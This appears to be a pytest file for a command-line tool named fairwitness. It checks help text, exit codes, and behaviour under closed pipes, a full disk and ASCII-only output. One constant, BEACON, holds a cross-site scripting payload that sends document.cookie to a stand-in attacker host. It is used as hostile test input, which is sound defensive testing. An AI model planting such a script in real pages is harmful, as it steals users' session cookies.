"""What every command says of itself, and that no output, reader or encoding makes one break."""

from __future__ import annotations

import asyncio
import os
import shlex
import subprocess
import sys
import tempfile
from contextlib import ExitStack
from pathlib import Path

import pytest
from cyclopts import App

from fairwitness.cli.main import app, main
from fairwitness.contract.requests import FeedbackRequest
from fairwitness.feedback import ContactSeal, feedback_of
from fairwitness.ledger import ledger_of
from fairwitness.service.call import Call
from fairwitness.service.feedback import SubmitFeedback
from fairwitness.settings import Settings
from tests import warm_start


def commands(of: App = app, path: tuple[str, ...] = ()) -> list[tuple[str, ...]]:
    """Return the words of every command, as `--help` lists them."""
    names = [name for name in of if not name.startswith("-")]
    return [path, *(found for name in names for found in commands(of[name], (*path, name)))]


@pytest.mark.parametrize("command", commands(), ids=" ".join)
def test_every_command_has_help_that_names_its_exit_codes(
    command: tuple[str, ...], capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as ended:
        main([*command, "--help"])
    assert ended.value.code == 0
    told = capsys.readouterr().out
    assert told.startswith(" ".join(["Usage: fairwitness", *command]))
    assert "[default: False]" not in told
    assert "COMMAND" in told or "\nExit code: 0" in told


BEACON = "Look <script>fetch('https://evil.example/'+document.cookie)</script>"
WRITERS = [
    ("--help",),
    ("evaluate", "--prompt", "Hi", "--response", BEACON),
    ("switch", "status"),
    ("switch", "status", "--json"),
    ("feedback", "list"),
    ("feedback", "export"),
    ("keys", "show"),
]


@pytest.fixture(scope="module")
def used(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data folder whose ledger and feedback were used, with words beyond ASCII in both."""
    folder = tmp_path_factory.mktemp("used")
    settings = Settings(data_dir=folder)

    async def use() -> None:
        ledger = ledger_of(settings)
        await ledger.turn_off("Preise geändert ☃", cancel=False)
        await ledger.close()
        store = feedback_of(settings)
        story = SubmitFeedback(store, ContactSeal.of(settings), lambda call: b"c" * 16)
        words = FeedbackRequest(
            contract_version="1.0.0", privacy_acknowledged=True, category="bug", message="naïve ☃"
        )
        await story(words, Call("r", "192.0.2.1"))
        await store.close()

    asyncio.run(use())
    return folder


every_writer = pytest.mark.parametrize("arguments", WRITERS, ids=lambda words: " ".join(words[:3]))


def environment(used: Path, **more: str) -> dict[str, str]:
    given = {k: v for k, v in os.environ.items() if k != "PYTHONUNBUFFERED"}
    return given | {"FAIRWITNESS_DATA_DIR": str(used), **more}


def usual(arguments: tuple[str, ...]) -> tuple[int, bytes]:
    """Return the exit code of a command whose output is of no matter, and that it complains of nothing."""
    return (1 if arguments[0] == "evaluate" else 0), b""


@every_writer
@pytest.mark.parametrize("how", ["reader leaves", "full", "ascii"])
def test_no_output_breaks_a_command_or_changes_its_exit_code(
    used: Path, arguments: tuple[str, ...], how: str
) -> None:
    reading, writing = os.pipe()
    with ExitStack() as stack:
        leaves = stack.enter_context(open(reading, "rb", 0))
        errors = stack.enter_context(tempfile.TemporaryFile())
        nothing = stack.enter_context(open(os.devnull))
        with open(writing, "wb") as pipe, open("/dev/full", "wb") as full:
            given = environment(used, PYTHONIOENCODING="ascii" if how == "ascii" else "utf-8")
            streams = (nothing, full if how == "full" else pipe, errors)
            process = warm_start.start(arguments, streams, given)
        if how == "reader leaves":
            leaves.read(1)
            leaves.close()
        elif how == "ascii":
            assert leaves.readall()
        code = process.wait()
        errors.seek(0)
        told = (code, errors.read())
    full_disk = (2, b"fairwitness: the output: No space left on device\n")
    assert told == (full_disk if how == "full" else usual(arguments))


@every_writer
def test_a_closed_output_breaks_no_command(used: Path, arguments: tuple[str, ...]) -> None:
    command = shlex.join([sys.executable, "-m", "fairwitness", *arguments])
    done = subprocess.run(
        ["bash", "-c", f"{command} >&-"],
        env=environment(used, PYTHONIOENCODING="utf-8"),
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert (done.returncode, done.stderr) == usual(arguments)
